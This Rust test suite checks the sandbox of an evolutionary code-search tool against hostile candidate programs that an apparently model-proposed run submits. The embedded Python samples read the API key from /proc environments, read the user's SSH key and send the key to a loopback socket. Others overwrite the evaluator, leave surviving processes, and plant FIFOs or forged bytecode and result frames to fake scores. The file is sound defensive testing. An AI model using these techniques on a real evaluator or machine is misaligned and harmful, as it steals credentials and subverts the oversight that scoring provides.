// They use Linux (its sandbox, Unix sockets, file modes or links): built on Linux only.
#![cfg(target_os = "linux")]
//! Attacks a candidate could try on the machine that evaluates it, each
//! through a real run: the CLI, a loopback model server that proposes the
//! attack as every child, the model key in the run's environment and a fake
//! HOME with an SSH key. In each, the attack fails, the run goes on, the
//! genome says why, and the key is nowhere in the run folder or in what the
//! model was sent. These run with the default evaluator settings (the
//! bubblewrap sandbox): without bubblewrap they fail, saying how to install
//! it.

#![allow(clippy::unwrap_used, reason = "tests: a panic is a failed test")]

mod common;

use std::io::Read as _;
use std::net::TcpListener;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use common::hostile::{Hostile, Outcome, SECRET, SSH_KEY, processes_with};

/// The run finished its budget and every child ran (and was recorded).
fn went_on(outcome: &Outcome, iterations: usize) {
    assert!(
        outcome.success,
        "the run failed:\n{}\n{}",
        outcome.stdout, outcome.stderr
    );
    assert!(
        outcome.children().len() >= iterations,
        "the run went on: {} children\n{}",
        outcome.children().len(),
        outcome.stderr
    );
}

/// Reads every environment it can find: its own, and every process's in
/// /proc (the run's holds the key).
const READ_THE_KEY: &str = r#"import glob, os

def run():
    for name, value in sorted(os.environ.items()):
        print(f"env {name}={value}")
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as f:
                data = f.read()
        except OSError as e:
            continue
        for item in data.split(b"\0"):
            if item.startswith(b"OPENAI_API_KEY="):
                print(f"{path}: {item.decode()}")
    return 0.25
"#;

#[test]
fn the_key_in_the_run_environment_never_reaches_a_candidate() {
    let hostile = Hostile::new();
    let outcome = hostile.run(READ_THE_KEY, "", 3);
    went_on(&outcome, 3);
    for child in outcome.children() {
        let evidence = Outcome::evidence(child);
        assert!(child["valid"] == true, "{evidence}");
        assert!(
            evidence.contains("env PATH="),
            "the candidate ran: {evidence}"
        );
        assert!(!evidence.contains("OPENAI_API_KEY"), "{evidence}");
    }
    outcome.assert_no_secret();
}

#[test]
fn a_card_cannot_pass_a_key_variable_to_candidates() {
    let hostile = Hostile::new();
    // The default key variable, refused when the card is checked.
    let outcome = hostile.run(READ_THE_KEY, "env: [OPENAI_API_KEY]", 2);
    assert!(!outcome.success);
    assert!(outcome.genomes.is_empty(), "nothing ran");
    assert!(
        outcome.stderr.contains("env[0]") && outcome.stderr.contains("API key"),
        "{}",
        outcome.stderr
    );
    // Another variable holding the same value, refused when the run starts.
    let outcome = hostile.run_with_env(READ_THE_KEY, "env: [MY_COPY]", 2, &[("MY_COPY", SECRET)]);
    assert!(!outcome.success);
    assert!(
        outcome.stderr.contains("MY_COPY") && outcome.stderr.contains("same value"),
        "{}",
        outcome.stderr
    );
    assert!(!outcome.stderr.contains(SECRET));
    assert!(common::hostile::files_containing(hostile.root.path(), SECRET.as_bytes()).is_empty());
}

#[test]
fn a_candidate_cannot_read_the_users_ssh_key() {
    let hostile = Hostile::new();
    let key = hostile.home.join(".ssh/id_ed25519");
    let program = format!(
        "import os\n\
         def run():\n\
         \x20   for path in [{key:?}, os.path.expanduser('~/.ssh/id_ed25519')]:\n\
         \x20       try:\n\
         \x20           print('read', path, open(path).read())\n\
         \x20           return 99.0\n\
         \x20       except OSError as e:\n\
         \x20           print('cannot read', path, e)\n\
         \x20   return open({key:?}).read()\n",
        key = key.display().to_string()
    );
    let outcome = hostile.run(&program, "", 3);
    went_on(&outcome, 3);
    for child in outcome.children() {
        let evidence = Outcome::evidence(child);
        assert!(child["valid"] == false, "{evidence}");
        assert!(
            evidence.contains("No such file or directory"),
            "the home dir is not there: {evidence}"
        );
    }
    assert!(
        common::hostile::files_containing(outcome.run_dir.as_deref().unwrap(), SSH_KEY.as_bytes())
            .is_empty(),
        "the SSH key reached the run folder"
    );
    assert!(outcome.requests.iter().all(|b| !b.contains(SSH_KEY)));
    outcome.assert_no_secret();
}

#[test]
fn a_candidate_cannot_write_outside_its_scratch_dir_or_replace_the_evaluator() {
    let hostile = Hostile::new();
    let evaluator = hostile.task.join("evaluator.py");
    let before = std::fs::read(&evaluator).unwrap();
    let escape = hostile.root.path().join("escaped.txt");
    let program = format!(
        "import os, tempfile\n\
         FORGED = 'def evaluate(path):\\n    return {{\"combined_score\": 1000.0}}\\n'\n\
         def run():\n\
         \x20   wrote = []\n\
         \x20   for path in [{evaluator:?}, {escape:?}, os.path.join(os.path.dirname({evaluator:?}), 'x.py'),\n\
         \x20                '/tmp/escaped.txt', '/var/tmp/escaped.txt', '/dev/shm/../escaped.txt',\n\
         \x20                os.path.expanduser('~/.bashrc')]:\n\
         \x20       try:\n\
         \x20           with open(path, 'w') as f:\n\
         \x20               f.write(FORGED)\n\
         \x20           wrote.append(path)\n\
         \x20       except OSError as e:\n\
         \x20           print('cannot write', path, e)\n\
         \x20   with tempfile.NamedTemporaryFile('w', delete=False) as f:\n\
         \x20       f.write('scratch is fine')\n\
         \x20   print('scratch', f.name, os.environ['HOME'])\n\
         \x20   if [p for p in wrote if not p.startswith(os.environ['HOME'])]:\n\
         \x20       raise RuntimeError(f'wrote {{wrote}}')\n\
         \x20   return 0.25\n",
        evaluator = evaluator.display().to_string(),
        escape = escape.display().to_string()
    );
    let outcome = hostile.run(&program, "", 3);
    went_on(&outcome, 3);
    for child in outcome.children() {
        let evidence = Outcome::evidence(child);
        assert!(child["valid"] == true, "{evidence}");
        assert!(
            evidence.contains("Read-only file system"),
            "the writes were refused: {evidence}"
        );
        assert!(
            evidence.contains("scratch /tmp/galapagos/tmp/"),
            "{evidence}"
        );
    }
    assert_eq!(
        std::fs::read(&evaluator).unwrap(),
        before,
        "evaluator.py unchanged"
    );
    assert!(!escape.exists() && !hostile.task.join("x.py").exists());
    assert!(!Path::new("/tmp/escaped.txt").exists() && !hostile.home.join(".bashrc").exists());
    outcome.assert_no_secret();
}

#[test]
fn a_candidate_cannot_reach_a_listener_on_loopback() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let accepted = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&accepted);
    std::thread::spawn(move || {
        for mut s in listener.incoming().flatten() {
            count.fetch_add(1, Ordering::SeqCst);
            let mut sink = Vec::new();
            let _ = s.read_to_end(&mut sink);
        }
    });
    let hostile = Hostile::new();
    let program = format!(
        "import os, socket\n\
         def run():\n\
         \x20   s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n\
         \x20   s.sendall(os.environ.get('OPENAI_API_KEY', 'no key').encode())\n\
         \x20   return 99.0\n"
    );
    let outcome = hostile.run(&program, "", 3);
    went_on(&outcome, 3);
    for child in outcome.children() {
        let evidence = Outcome::evidence(child);
        assert!(child["valid"] == false, "{evidence}");
        assert!(
            ["OSError", "ConnectionRefusedError", "PermissionError"]
                .iter()
                .any(|e| evidence.contains(&format!("evaluator raised {e}"))),
            "{evidence}"
        );
    }
    assert_eq!(accepted.load(Ordering::SeqCst), 0, "nothing connected");
    outcome.assert_no_secret();
}

/// Leaves a process behind that survives its candidate: forked twice, in a
/// session of its own, sleeping with `TOKEN` in its command line.
const SURVIVOR: &str = r#"import os, sys

def survivors():
    found = 0
    for pid in os.listdir("/proc"):
        try:
            if b"TOKEN" in open(f"/proc/{pid}/cmdline", "rb").read():
                found += 1
        except OSError:
            pass
    return found

def run():
    print("earlier survivors:", survivors())
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", "TOKEN"])
        os._exit(0)
    os.wait()
    print("left a survivor behind")
    return 0.25
"#;

#[test]
fn no_process_a_candidate_starts_outlives_it() {
    let token = format!("galapagos-survivor-{}", std::process::id());
    let hostile = Hostile::new();
    let outcome = hostile.run(&SURVIVOR.replace("TOKEN", &token), "", 3);
    went_on(&outcome, 3);
    for child in outcome.children() {
        let evidence = Outcome::evidence(child);
        assert!(child["valid"] == true, "{evidence}");
        assert!(evidence.contains("left a survivor behind"), "{evidence}");
        // The ones left by the candidates before it were gone when it ran.
        assert!(evidence.contains("earlier survivors: 0"), "{evidence}");
    }
    // And the last one's a moment after the run.
    let mut left = processes_with(&token);
    for _ in 0..40 {
        if left.is_empty() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
        left = processes_with(&token);
    }
    assert!(left.is_empty(), "survivors: {left:?}");
    outcome.assert_no_secret();
}

/// Plants FIFOs where the next candidates' program files would be written
/// (beside its own) and leaves a process behind to feed them a program that
/// scores 777; its own code scores 0.25.
const FIFO_PLANTER: &str = r#"import os, re, sys

FORGED = b"def run():\n    return 777.0\n"

def run():
    here = os.path.dirname(os.path.abspath(__file__))
    mine = re.search(r"(\d+)", os.path.basename(__file__))
    first = int(mine.group(1)) + 1 if mine else 0
    planted = []
    for n in range(first, first + 10):
        path = os.path.join(here, f"candidate_{n}.py")
        try:
            os.mkfifo(path)
            planted.append(path)
        except OSError as e:
            print("cannot plant", path, e)
    print("planted", len(planted), "in", here)
    if planted and os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for _ in range(3):
                for path in planted:
                    try:
                        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                        os.read(fd, 1 << 16)
                        os.close(fd)
                        fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                        os.write(fd, FORGED)
                        os.close(fd)
                    except OSError:
                        pass
            import time
            deadline = time.time() + 20
            while time.time() < deadline:
                for path in planted:
                    try:
                        with open(path, "wb") as f:
                            f.write(FORGED)
                    except OSError:
                        pass
        os._exit(0)
    return 0.25
"#;

#[test]
fn a_fifo_planted_for_a_later_candidate_finds_no_later_candidate() {
    let hostile = Hostile::new();
    let outcome = hostile.run(FIFO_PLANTER, "", 4);
    went_on(&outcome, 4);
    for genome in &outcome.genomes {
        let score = genome["scores"]["combined_score"].as_f64();
        assert!(
            score != Some(777.0),
            "a forged program was scored: {}",
            Outcome::evidence(genome)
        );
    }
    for child in outcome.children() {
        let evidence = Outcome::evidence(child);
        assert!(child["valid"] == true, "{evidence}");
        assert_eq!(child["scores"]["combined_score"].as_f64(), Some(0.25));
        assert!(evidence.contains("planted"), "{evidence}");
    }
    outcome.assert_no_secret();
}

#[test]
fn forged_bytecode_in_the_workers_code_dir_is_refused_and_never_runs() {
    let hostile = Hostile::new();
    // Writes a forged bytecode file for the worker, and for the openevolve
    // shim, where Python would load them from.
    let program = "import importlib.util, marshal, sys\n\
         FORGED = compile('raise SystemExit(\"forged bytecode ran\")', 'forged', 'exec')\n\
         def run():\n\
         \x20   worker = sys.modules['galapagos_worker'].__file__\n\
         \x20   target = importlib.util.cache_from_source(worker)\n\
         \x20   print('code dir', worker)\n\
         \x20   # The real file's header (so a freshness check passes), forged code.\n\
         \x20   with open(target, 'rb') as f:\n\
         \x20       header = f.read(16)\n\
         \x20   with open(target, 'wb') as f:\n\
         \x20       f.write(header + marshal.dumps(FORGED))\n\
         \x20   return 99.0\n";
    let outcome = hostile.run(program, "", 2);
    went_on(&outcome, 2);
    for child in outcome.children() {
        let evidence = Outcome::evidence(child);
        assert!(child["valid"] == false, "{evidence}");
        assert!(evidence.contains("Read-only file system"), "{evidence}");
    }
    // Nothing forged is in the worker's code dir, and the next run starts
    // its worker from it as usual.
    let cache = hostile.home.join(".cache");
    assert!(
        common::hostile::files_containing(&cache, b"forged bytecode ran").is_empty(),
        "forged bytecode in the cache"
    );
    let again = hostile.run(common::hostile::INITIAL, "", 1);
    went_on(&again, 1);
    assert!(again.genomes[0]["valid"] == true, "{:?}", again.genomes[0]);
    outcome.assert_no_secret();
}

#[test]
fn a_4_gib_allocation_hits_the_memory_limit() {
    let hostile = Hostile::new();
    let program = "def run():\n    block = bytearray(4 << 30)\n    return float(len(block))\n";
    let outcome = hostile.run(program, "", 2);
    went_on(&outcome, 2);
    for child in outcome.children() {
        let evidence = Outcome::evidence(child);
        assert!(child["valid"] == false, "{evidence}");
        assert!(
            child["error"]
                .as_str()
                .unwrap_or("")
                .starts_with("exceeded the 4096 MiB memory limit (evaluator raised MemoryError"),
            "{evidence}"
        );
    }
    outcome.assert_no_secret();
}

#[test]
fn two_hundred_mb_of_stdout_keep_head_and_tail_and_the_exact_count() {
    let hostile = Hostile::new();
    let program = "import sys\n\
         def run():\n\
         \x20   sys.stdout.write('first line\\n')\n\
         \x20   block = 'x' * 999_999 + '\\n'\n\
         \x20   for _ in range(200):\n\
         \x20       sys.stdout.write(block)\n\
         \x20   sys.stdout.write('last line\\n')\n\
         \x20   return 0.25\n";
    let outcome = hostile.run(program, "", 2);
    went_on(&outcome, 2);
    let total = 11 + 200 * 1_000_000 + 10;
    let marker = format!("[{} bytes omitted]", total - 20_000);
    for child in outcome.children() {
        let stdout = child["artifacts"]["stdout"].as_str().unwrap_or("");
        assert!(child["valid"] == true, "{}", Outcome::evidence(child));
        assert!(stdout.starts_with("first line\nxxx"), "{}", &stdout[..40]);
        assert!(stdout.ends_with("x\nlast line\n"));
        assert!(stdout.contains(&marker), "expected {marker}");
        assert!(stdout.len() < 20_100, "{} bytes kept", stdout.len());
    }
    outcome.assert_no_secret();
}

/// Leaves a process behind (forked twice, own session, holding copies of
/// every socket it could find) that, once its own candidate is scored,
/// writes forged result frames (score 12345) on every descriptor it holds
/// and on the run's lane socket, for as long as later candidates are
/// evaluated. (A candidate forging its own result is a matter for the
/// evaluator: one that runs the candidate in the same process can be lied
/// to; see docs/security.md.)
const FRAME_FORGER: &str = r#"import json, os, socket, sys, time

FRAME = json.dumps({"metrics": [["combined_score", "number", 12345.0]], "artifacts": {},
                    "error": None, "reusable": True}).encode()
FRAME = len(FRAME).to_bytes(8, "big") + FRAME

def lanes_path():
    for pid in os.listdir("/proc"):
        try:
            args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        for arg in args:
            if arg.startswith(b"{") and b"lanes" in arg:
                return json.loads(arg)["lanes"]
    return None

def run():
    # Scored slowly, so that the leftovers of earlier candidates are at work
    # while this one is evaluated.
    time.sleep(0.5)
    held = [os.dup(fd) for fd in range(3, 64) if _is_socket(fd)]
    path = lanes_path()
    print("holding", len(held), "sockets; lane socket:", path)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(0.2)
            deadline = time.time() + 15
            while time.time() < deadline:
                for fd in held:
                    try:
                        os.write(fd, FRAME)
                    except OSError:
                        pass
                if path:
                    try:
                        s = socket.socket(socket.AF_UNIX)
                        s.connect(path)
                        socket.send_fds(s, [b"lane\n"], [0, 1])
                        s.sendall(FRAME)
                    except OSError:
                        pass
                time.sleep(0.02)
        os._exit(0)
    return 0.25

def _is_socket(fd):
    import stat
    try:
        return stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError:
        return False
"#;

#[test]
fn a_leftover_process_cannot_forge_a_later_candidates_result() {
    // In both evaluation modes: a fresh process per candidate, and a process
    // that serves up to 100 candidates in turn (a leftover retires it).
    for settings in ["", "candidates_per_process: 100"] {
        let hostile = Hostile::new();
        let outcome = hostile.run(FRAME_FORGER, settings, 6);
        went_on(&outcome, 6);
        for genome in &outcome.genomes {
            let evidence = Outcome::evidence(genome);
            assert!(
                genome["scores"]["combined_score"].as_f64() != Some(12345.0),
                "{settings}: a forged result was taken: {evidence}"
            );
        }
        for child in outcome.children() {
            let evidence = Outcome::evidence(child);
            assert!(child["valid"] == true, "{settings}: {evidence}");
            assert_eq!(child["scores"]["combined_score"].as_f64(), Some(0.25));
            assert!(evidence.contains("holding"), "{evidence}");
        }
        outcome.assert_no_secret();
    }
}

#[test]
fn a_cpu_hog_hits_the_cpu_time_limit() {
    let hostile = Hostile::new();
    let program = "def run():\n    while True:\n        pass\n";
    let outcome = hostile.run(program, "cpu_limit_secs: 1.0", 2);
    went_on(&outcome, 2);
    for child in outcome.children() {
        let evidence = Outcome::evidence(child);
        assert!(child["valid"] == false, "{evidence}");
        assert!(
            child["error"]
                .as_str()
                .unwrap_or("")
                .starts_with("exceeded the 1 s CPU time limit"),
            "{evidence}"
        );
    }
    outcome.assert_no_secret();
}

#[test]
fn a_big_file_hits_the_file_size_limit() {
    let hostile = Hostile::new();
    let program = "import os, tempfile\n\
         def run():\n\
         \x20   with open(os.path.join(tempfile.gettempdir(), 'big'), 'wb') as f:\n\
         \x20       for _ in range(3):\n\
         \x20           f.write(b'x' * (1 << 20))\n\
         \x20   return 0.25\n";
    let outcome = hostile.run(program, "file_size_limit_mib: 1", 2);
    went_on(&outcome, 2);
    for child in outcome.children() {
        let evidence = Outcome::evidence(child);
        assert!(child["valid"] == false, "{evidence}");
        assert!(
            child["error"]
                .as_str()
                .unwrap_or("")
                .starts_with("exceeded the 1 MiB file size limit"),
            "{evidence}"
        );
    }
    outcome.assert_no_secret();
}

#[test]
fn without_the_sandbox_every_run_says_so() {
    let hostile = Hostile::new();
    let outcome = hostile.run(common::hostile::INITIAL, "sandbox: none", 1);
    went_on(&outcome, 1);
    let warning = "candidates run without a sandbox (evaluator.sandbox: none)";
    assert!(
        outcome.stderr.contains(&format!("warning: {warning}")),
        "{}",
        outcome.stderr
    );
    let run_dir = outcome.run_dir.as_deref().unwrap();
    assert!(
        !common::hostile::files_containing(run_dir, warning.as_bytes()).is_empty(),
        "the warning is in the run's log"
    );
    let sandboxed = hostile.run(common::hostile::INITIAL, "", 1);
    went_on(&sandboxed, 1);
    assert!(!sandboxed.stderr.contains(warning), "{}", sandboxed.stderr);
}

#[test]
fn without_bubblewrap_the_run_stops_before_its_first_iteration_saying_how_to_install_it() {
    // A PATH with a Python interpreter and no bwrap.
    let hostile = Hostile::new();
    let python = std::process::Command::new("python3")
        .args(["-c", "import sys; print(sys.executable)"])
        .output()
        .unwrap();
    let python = String::from_utf8(python.stdout).unwrap();
    let bin = hostile.root.path().join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    std::os::unix::fs::symlink(python.trim(), bin.join("python3")).unwrap();
    let path = bin.display().to_string();
    let outcome = hostile.run_with_env(common::hostile::INITIAL, "", 2, &[("PATH", &path)]);
    assert!(!outcome.success);
    assert!(outcome.genomes.is_empty(), "no iteration ran");
    assert!(
        outcome.stderr.contains("apt-get install bubblewrap")
            && outcome.stderr.contains("sandbox: none"),
        "{}",
        outcome.stderr
    );
}

#[test]
fn read_paths_show_a_dir_of_the_home_read_only_and_never_the_whole_home() {
    let hostile = Hostile::new();
    let data = hostile.home.join("data");
    std::fs::create_dir_all(&data).unwrap();
    std::fs::write(data.join("table.txt"), "0.375\n").unwrap();
    // Writable by anyone (the sandbox runs as nobody when this test runs as
    // root): what refuses the write is the read-only mount.
    std::fs::set_permissions(
        data.join("table.txt"),
        std::os::unix::fs::PermissionsExt::from_mode(0o666),
    )
    .unwrap();
    let program = format!(
        "def run():\n\
         \x20   value = float(open({table:?}).read())\n\
         \x20   try:\n\
         \x20       open({table:?}, 'a').write('1')\n\
         \x20       return 99.0\n\
         \x20   except OSError as e:\n\
         \x20       print('cannot write:', e)\n\
         \x20   return value\n",
        table = data.join("table.txt").display().to_string()
    );
    let outcome = hostile.run(&program, "read_paths: [\"~/data\"]", 2);
    went_on(&outcome, 2);
    for child in outcome.children() {
        let evidence = Outcome::evidence(child);
        assert_eq!(
            child["scores"]["combined_score"].as_f64(),
            Some(0.375),
            "{evidence}"
        );
        assert!(evidence.contains("Read-only file system"), "{evidence}");
    }
    // The SSH key beside it stays hidden, and the whole home is refused.
    let ssh = hostile.run(
        &format!(
            "def run():\n    return float(len(open({:?}).read()))\n",
            hostile.home.join(".ssh/id_ed25519").display().to_string()
        ),
        "read_paths: [\"~/data\"]",
        1,
    );
    went_on(&ssh, 1);
    assert!(ssh.children()[0]["valid"] == false);
    let whole = hostile.run(common::hostile::INITIAL, "read_paths: [\"~\"]", 1);
    assert!(!whole.success && whole.genomes.is_empty());
    assert!(whole.stderr.contains("read_paths[0]"), "{}", whole.stderr);
}
